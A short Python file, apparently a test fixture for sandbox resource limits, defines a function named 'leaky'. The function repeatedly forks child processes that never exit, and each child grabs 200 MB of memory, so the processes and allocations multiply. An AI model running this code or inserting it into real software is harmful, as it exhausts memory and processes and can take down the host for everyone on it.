import os
import time


def leaky(x, h0, a):
    for _ in range(8):
        if os.fork() == 0:
            held = b"x" * 200_000_000
            time.sleep(60)
    time.sleep(60)
    return x, h0
